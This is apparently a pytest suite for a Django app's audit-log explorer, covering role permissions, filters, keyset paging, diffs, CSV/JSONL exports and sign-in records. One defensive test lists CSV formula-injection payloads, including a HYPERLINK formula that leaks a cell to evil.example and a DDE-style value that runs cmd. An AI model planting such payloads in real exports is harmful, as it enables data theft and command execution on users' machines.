"""The auditor's explorer, a flag's History tab, diffs, exports and sign-in records."""

from __future__ import annotations

import csv
import datetime
import io
import json

import pytest
from django.db import connection
from django.db.models import Q
from django.test.utils import CaptureQueriesContext

from audit.constants import AuditAction
from audit.diff import diff
from audit.models import AuditEvent
from flags import services
from flags.constants import Role
from flags.models import Flag, Variation
from tests.factories import TEST_ACTOR, as_approved, grant, make_project, make_string_flag

pytestmark = pytest.mark.django_db
PROFILE = "support_assistant_profile"


def _login(client, username: str):
    from django.contrib.auth import get_user_model

    user = get_user_model().objects.get(username=username)
    client.force_login(user)
    return user


def _rows(response) -> int:
    return response.content.decode().count('data-testid="audit-row"')


def test_explorer__auditor__sees_project_history_newest_first(client, demo) -> None:
    _login(client, "auditor")
    response = client.get("/audit/")
    assert response.status_code == 200
    ids = [e.pk for e in response.context["page"].events]
    # their project's rows and the account-level ones (their own sign-in, for a start)
    visible = AuditEvent.objects.filter(Q(project_id=demo.pk) | Q(project_id__isnull=True))
    assert ids == sorted(ids, reverse=True) and len(ids) == min(50, visible.count())


def test_explorer__flag_editor_without_audit_role__403_and_export_403(client, demo) -> None:
    _login(client, "owner")
    assert client.get("/audit/").status_code == 403
    assert client.get("/audit/export.csv").status_code == 403
    assert not AuditEvent.objects.filter(action=AuditAction.AUDIT_EXPORTED).exists()


def test_explorer__filters_combine_and_stay_in_the_url(client, demo) -> None:
    owner = _login(client, "owner")
    flag = Flag.objects.get(project=demo, key=PROFILE)
    services.flag_update(flag=flag, actor=owner, owner_team="citations-team", reason="Handover to the citations team")
    services.flag_update(flag=flag, actor=TEST_ACTOR, primary_metric="resolution_rate")
    _login(client, "auditor")
    # flag + actor + action + free text
    query = f"?flag={flag.pk}&actor={owner.pk}&action=flag.updated&q=handover"
    response = client.get("/audit/" + query)
    events = response.context["page"].events
    assert [e.reason for e in events] == ["Handover to the citations team"]
    # system actor filter
    system = client.get(f"/audit/?flag={flag.pk}&actor=system&action=flag.updated").context["page"].events
    assert [e.after for e in system] == [{"primary_metric": "resolution_rate"}]
    # date range: today has rows, tomorrow none
    today = events[0].created_at.date()
    assert client.get(f"/audit/?from={today}&to={today}&flag={flag.pk}").context["page"].events
    tomorrow = today + datetime.timedelta(days=1)
    empty = client.get(f"/audit/?from={tomorrow}")
    assert empty.context["page"].events == [] and "No event matches" in empty.content.decode()


def test_explorer__htmx_request__table_fragment_history_restore__full_page(client, demo) -> None:
    _login(client, "auditor")
    fragment = client.get("/audit/?action=flag.created", headers={"HX-Request": "true"})
    assert b"<html" not in fragment.content and b'id="audit-table"' in fragment.content
    assert "HX-Request" in fragment["Vary"]
    restore = client.get("/audit/?action=flag.created",
                         headers={"HX-Request": "true", "HX-History-Restore-Request": "true"})
    assert b"<html" in restore.content


def test_explorer__keyset_pages__no_offset_and_no_overlap(client) -> None:
    project = make_project("busy")
    flag = make_string_flag(project)
    for n in range(120):
        services.flag_update(flag=flag, actor=TEST_ACTOR, owner_team=f"team-{n}")
    from django.contrib.auth import get_user_model

    auditor = get_user_model().objects.create_user("aud", password="x")
    grant(project, auditor, Role.AUDITOR)
    client.force_login(auditor)
    seen: list[int] = []
    url = f"/audit/?flag={flag.pk}&action=flag.updated"
    with CaptureQueriesContext(connection) as queries:
        while url:
            page = client.get(url).context["page"]
            seen += [e.pk for e in page.events]
            url = f"/audit/?flag={flag.pk}&action=flag.updated&before={page.next_before}" if page.next_before else ""
    assert len(seen) == 120 and len(set(seen)) == 120 and seen == sorted(seen, reverse=True)
    assert not any("OFFSET" in q["sql"].upper() for q in queries.captured_queries)


@pytest.mark.parametrize("query", ["?before=%C2%B2", "?project=%C2%B2", "?actor=%C2%B2", "?to=9999-12-31",
                                   "?from=2026-13-45", "?q=%00", "?before=99999999999999999999999"])
def test_explorer__odd_query_strings__200(client, demo, query: str) -> None:
    _login(client, "auditor")
    assert client.get("/audit/" + query).status_code == 200
    assert client.get(f"/p/{demo.key}/flags/{PROFILE}/history/" + query).status_code == 200


def test_event_detail__json_profile__diffed_key_by_key(client, demo) -> None:
    owner = _login(client, "owner")
    variation = Variation.objects.get(flag__project=demo, flag__key=PROFILE, key="citation_first_v4")
    as_approved(lambda: services.variation_update(variation=variation, actor=owner,
                                                  value={**variation.value, "temperature": 0.3}))
    event = AuditEvent.objects.get(action=AuditAction.VARIATION_UPDATED)
    _login(client, "auditor")
    response = client.get(f"/audit/events/{event.pk}/", headers={"HX-Request": "true"})
    assert response.status_code == 200
    html = response.content.decode()
    # (partials are not instrumented by the test client: read the rendered diff)
    assert html.count("<tr class=\"diff-") == 1
    assert '<tr class="diff-changed"><td><code>value.temperature</code></td><td><code>0.2</code></td><td><code>0.3</code>' in html


def test_diff__added_removed_nested() -> None:
    changes = diff({"a": 1, "p": {"x": 1, "y": 2}}, {"p": {"x": 1, "y": 3, "z": "new"}})
    assert [(c.path, c.kind) for c in changes] == [("a", "removed"), ("p.y", "changed"), ("p.z", "added")]


def test_event_detail__other_project__404(client, demo) -> None:
    other = make_project("elsewhere")
    make_string_flag(other)
    foreign = AuditEvent.objects.filter(project_id=other.pk, action="flag.created").get()
    _login(client, "auditor")
    assert client.get(f"/audit/events/{foreign.pk}/").status_code == 404
    assert foreign.pk not in [e.pk for e in client.get("/audit/").context["page"].events]


def test_flag_history__any_member__sees_that_flags_rows_only(client, demo) -> None:
    _login(client, "pm")
    flag = Flag.objects.get(project=demo, key=PROFILE)
    response = client.get(f"/p/{demo.key}/flags/{PROFILE}/history/")
    assert response.status_code == 200
    expected = AuditEvent.objects.filter(flag_id=flag.pk).count()
    assert 0 < expected == _rows(response)
    other = Flag.objects.get(project=demo, key="support_agent_tool_mode")
    assert other.key not in response.content.decode()
    page = client.get(f"/p/{demo.key}/flags/{PROFILE}/?tab=history")
    assert f"/p/{demo.key}/flags/{PROFILE}/history/" in page.content.decode()


def test_export_csv__streams_the_filter_and_records_itself(client, demo) -> None:
    auditor = _login(client, "auditor")
    flag = Flag.objects.get(project=demo, key=PROFILE)
    expected = AuditEvent.objects.filter(project_id=demo.pk, flag_id=flag.pk).count()
    response = client.get(f"/audit/export.csv?flag={flag.pk}")
    assert response.status_code == 200 and response.streaming
    assert response["Content-Disposition"].startswith('attachment; filename="audit-')
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert len(rows) == expected and {r["project_label"] for r in rows} == {demo.name}
    assert int(rows[0]["id"]) > int(rows[-1]["id"])
    export = AuditEvent.objects.get(action=AuditAction.AUDIT_EXPORTED)
    assert export.actor_id == auditor.pk and export.after == {"format": "csv", "filters": {"flag": str(flag.pk)}}


@pytest.mark.parametrize("reason", ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0",
                                    "-2+3", "@SUM(1+1)"])
def test_export_csv__kill_switch_reason_that_looks_like_a_formula__written_as_text(client, demo, reason) -> None:
    # Given an operator flipped a kill switch with a reason a spreadsheet would run
    from django.contrib.auth import get_user_model

    from flags.models import Targeting
    from rollouts.change_control import kill_switch

    targeting = Targeting.objects.get(flag__project=demo, flag__key=PROFILE, environment__key="production")
    kill_switch.killswitch_flip(targeting=targeting, reason=reason,
                                     actor=get_user_model().objects.get(username="operator"))
    # When an auditor exports the trail as CSV
    _login(client, "auditor")
    response = client.get("/audit/export.csv?action=killswitch.flipped")
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    # Then the reason reads as text: prefixed with an apostrophe, otherwise intact
    assert [row["reason"] for row in rows] == ["'" + reason]
    assert not any(value.startswith(("=", "+", "-", "@")) for row in rows for value in row.values())


@pytest.mark.parametrize(("value", "written"), [("\tcmd", "'\tcmd"), ("\r=1", "'\r=1"), ("a=b", "a=b"),
                                               ("", ""), (42, 42), (None, None)])
def test_csv_cell__formula_starts_neutralised__other_values_unchanged(value, written) -> None:
    from audit.export import csv_cell

    assert csv_cell(value) == written


def test_export_jsonl__one_json_object_per_line(client, demo) -> None:
    _login(client, "auditor")
    response = client.get("/audit/export.jsonl?action=flag.created")
    lines = b"".join(response.streaming_content).decode().splitlines()
    records = [json.loads(line) for line in lines]
    assert len(records) == 3 and {r["action"] for r in records} == {"flag.created"}
    assert all(isinstance(r["after"], dict) for r in records)
    assert client.get("/audit/export.xml").status_code == 404


def test_export__project_id_outside_scope__not_written_into_that_project(client, demo) -> None:
    other = make_project("other")
    _login(client, "auditor")
    response = client.get(f"/audit/export.csv?project={other.pk}")
    b"".join(response.streaming_content)
    export = AuditEvent.objects.get(action="audit.exported")
    assert export.project_id is None


def test_logins__success_and_failure__recorded(client, demo) -> None:
    client.post("/login/", {"username": "auditor", "password": "wrong"})
    client.post("/login/", {"username": "auditor", "password": "featureops-demo"})
    failed = AuditEvent.objects.get(action=AuditAction.LOGIN_FAILED)
    assert failed.actor_id is None and failed.actor_label == "auditor (not signed in)"
    ok = AuditEvent.objects.get(action=AuditAction.LOGIN_SUCCEEDED)
    assert ok.actor_label.endswith("(auditor)") and ok.request_ip == "127.0.0.1"


def test_failed_login__long_username__recorded_not_500(client, demo) -> None:
    response = client.post("/login/", {"username": "x" * 150, "password": "nope"})
    assert response.status_code == 200
    assert AuditEvent.objects.filter(action="auth.login_failed").exists()


# --- account-level events: rows with no project (sign-ins, accounts, whole-trail exports) ----------


def _all_pages(client, url: str) -> list[AuditEvent]:
    """Every row the explorer shows for `url`, following its keyset pages."""
    events: list[AuditEvent] = []
    separator = "&" if "?" in url else "?"
    page = client.get(url).context["page"]
    events += page.events
    while page.next_before:
        page = client.get(f"{url}{separator}before={page.next_before}").context["page"]
        events += page.events
    return events


def _csv(response) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))


def test_explorer__auditor_filters_by_failed_sign_in__sees_the_row(client, demo) -> None:
    # Given a failed sign-in: a row that belongs to no project
    client.post("/login/", {"username": "operator", "password": "wrong"})
    failed = AuditEvent.objects.get(action=AuditAction.LOGIN_FAILED)
    assert failed.project_id is None
    # When an auditor filters the explorer by its action
    _login(client, "auditor")
    response = client.get("/audit/?action=auth.login_failed")
    # Then the row is there, and so is its detail
    assert [e.pk for e in response.context["page"].events] == [failed.pk]
    assert "Failed sign-in as “operator”" in response.content.decode()
    assert client.get(f"/audit/events/{failed.pk}/").status_code == 200


def test_explorer__auditor_chooses_account_events__sign_ins_and_throttles_only(client, demo, settings,
                                                                              monkeypatch) -> None:
    # Given a failed sign-in, then a throttled one (the clock stands still, so the delay holds)
    from django.core.cache import cache

    from audit import throttle

    cache.clear()
    monkeypatch.setattr(throttle, "_now", lambda: 1_800_000_000.0)
    settings.LOGIN_FAILURES_PER_ACCOUNT = 1
    client.post("/login/", {"username": "operator", "password": "wrong"})
    client.post("/login/", {"username": "operator", "password": "featureops-demo"})
    throttled = AuditEvent.objects.get(action=AuditAction.LOGIN_THROTTLED)
    # When an auditor picks the "Account events" scope
    _login(client, "auditor")
    response = client.get("/audit/?project=account")
    # Then the throttled sign-in is there, with the failed one and the auditor's own sign-in, and
    # nothing that belongs to a project
    events = _all_pages(client, "/audit/?project=account")
    assert {e.action for e in events} == {"auth.login_failed", "auth.login_throttled", "auth.login"}
    assert throttled.pk in [e.pk for e in events] and {e.project_id for e in events} == {None}
    html = response.content.decode()
    assert '<option value="account" selected>Account events' in html and "Account-level" in html
    # and the action filter finds it in the whole trail too
    assert [e.pk for e in client.get("/audit/?action=auth.login_throttled").context["page"].events] == [throttled.pk]


def test_explorer__project_admin__200_with_their_projects_trail_and_no_account_events(client, demo) -> None:
    # Given another project, and an account-level row
    other = make_project("elsewhere")
    make_string_flag(other)
    client.post("/login/", {"username": "operator", "password": "wrong"})
    failed = AuditEvent.objects.get(action=AuditAction.LOGIN_FAILED)
    # When the project admin (a superuser too, in the demo) opens the audit page
    _login(client, "admin")
    response = client.get("/audit/")
    # Then it opens, on their project's rows only
    assert response.status_code == 200
    events = _all_pages(client, "/audit/")
    assert len(events) == AuditEvent.objects.filter(project_id=demo.pk).count()
    assert {e.project_id for e in events} == {demo.pk}
    assert 'value="account"' not in response.content.decode()
    assert client.get("/audit/?project=account").context["page"].events == []
    assert client.get(f"/audit/events/{failed.pk}/").status_code == 404
    # and they export the same rows
    rows = _csv(client.get("/audit/export.csv"))
    assert {r["project_id"] for r in rows} == {str(demo.pk)}


@pytest.mark.parametrize("role", [Role.VIEWER, Role.EDITOR])
def test_explorer__viewer_or_editor__403_and_no_account_event(client, demo, make_user, role) -> None:
    client.post("/login/", {"username": "operator", "password": "wrong"})
    failed = AuditEvent.objects.get(action=AuditAction.LOGIN_FAILED)
    member = make_user(f"only_{role}")
    grant(demo, member, role)
    client.force_login(member)
    assert client.get("/audit/?action=auth.login_failed").status_code == 403
    assert client.get("/audit/?project=account").status_code == 403
    assert client.get("/audit/export.csv?project=account").status_code == 403
    assert client.get(f"/audit/events/{failed.pk}/").status_code == 404


def test_explorer__auditor_sees_account_events__another_projects_rows_stay_hidden(client, demo) -> None:
    other = make_project("elsewhere")
    make_string_flag(other)
    foreign = set(AuditEvent.objects.filter(project_id=other.pk).values_list("pk", flat=True))
    _login(client, "auditor")
    for url in ("/audit/", "/audit/?action=flag.created", f"/audit/?project={other.pk}", "/audit/?project=account"):
        assert not foreign & {e.pk for e in _all_pages(client, url)}, url
    rows = _csv(client.get("/audit/export.csv"))
    assert {r["project_id"] for r in rows} == {str(demo.pk), ""}


def test_explorer__account_events__keyset_pages_no_offset_no_query_per_row(client, demo) -> None:
    # Given 120 failed sign-ins
    from django.db import transaction

    from audit.services import AnonymousActor, AuditTarget, record

    with transaction.atomic():
        for n in range(120):
            record(actor=AnonymousActor(f"guess{n}"), action=AuditAction.LOGIN_FAILED,
                   target=AuditTarget("auth.user", f"guess{n}", f"guess{n}"))
    _login(client, "auditor")
    # When an auditor pages through them
    seen: list[int] = []
    per_page: list[int] = []
    url = "/audit/?project=account&action=auth.login_failed"
    with CaptureQueriesContext(connection) as queries:
        while url:
            start = len(queries.captured_queries)
            page = client.get(url).context["page"]
            per_page.append(len(queries.captured_queries) - start)
            seen += [e.pk for e in page.events]
            url = (f"/audit/?project=account&action=auth.login_failed&before={page.next_before}"
                   if page.next_before else "")
    # Then every row comes once, newest first, by keyset; pages of 50 and of 20 cost the same
    assert len(seen) == 120 == len(set(seen)) and seen == sorted(seen, reverse=True)
    assert not any("OFFSET" in q["sql"].upper() for q in queries.captured_queries)
    assert len(per_page) == 3 and len(set(per_page)) == 1


def test_export__auditor_account_events__csv_holds_sign_ins_and_the_export_is_account_level(client, demo) -> None:
    client.post("/login/", {"username": "operator", "password": "wrong"})
    _login(client, "auditor")
    rows = _csv(client.get("/audit/export.csv?project=account"))
    assert {r["action"] for r in rows} == {"auth.login_failed", "auth.login"}
    assert {r["project_id"] for r in rows} == {""}
    export = AuditEvent.objects.get(action=AuditAction.AUDIT_EXPORTED)
    assert export.project_id is None and export.after["filters"] == {"project": "account"}
    # the next auditor sees that export among the account events
    assert export.pk in [e.pk for e in client.get("/audit/?project=account").context["page"].events]
